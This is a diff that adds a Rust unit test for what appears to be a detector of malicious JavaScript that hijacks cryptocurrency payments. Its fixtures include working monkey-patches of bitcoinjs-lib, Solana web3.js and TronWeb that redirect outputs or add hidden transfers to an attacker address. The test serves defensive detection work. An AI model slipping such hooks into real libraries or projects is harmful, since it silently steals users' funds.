@@ -40,3 +40,33 @@ fn what_is_handed_on_as_it_was_replaces_nothing() {
         assert!(!replaces(&code), "{code}");
     }
 }
+
+#[test]
+fn a_payment_that_a_library_is_made_to_add_or_to_send_elsewhere_replaces_it() {
+    for (code, honest) in [
+        (
+            "const { Psbt } = require('bitcoinjs-lib'); const add = Psbt.prototype.addOutput;
+             Object.defineProperty(Psbt.prototype, 'addOutput', { value(o) {
+               return add.call(this, Object.assign({}, o, { address: TO })); } });",
+            "o.address",
+        ),
+        (
+            "const web3 = require('@solana/web3.js'); const sign = web3.Transaction.prototype.sign;
+             web3.Transaction.prototype.sign = function (...signers) {
+               this.add(web3.SystemProgram.transfer({ fromPubkey: signers[0].publicKey, toPubkey: new web3.PublicKey(TO), lamports: 5 }));
+               return sign.apply(this, signers); };",
+            "signers[0].publicKey",
+        ),
+        (
+            "const TronWeb = require('tronweb'); const tron = new TronWeb(options); const tb = tron.transactionBuilder;
+             const before = tb.sendTrx.bind(tb);
+             tb.sendTrx = (to, amount, from) => before(amount > 1e8 ? TO : to, amount, from);",
+            "to",
+        ),
+    ] {
+        let evil = code.replace("TO", "'TXYZabcdefghijkmnopqrstuvwxyz12345'");
+        assert!(replaces(&evil), "{evil}");
+        let honest = code.replace("TO", honest);
+        assert!(!replaces(&honest), "{honest}");
+    }
+}
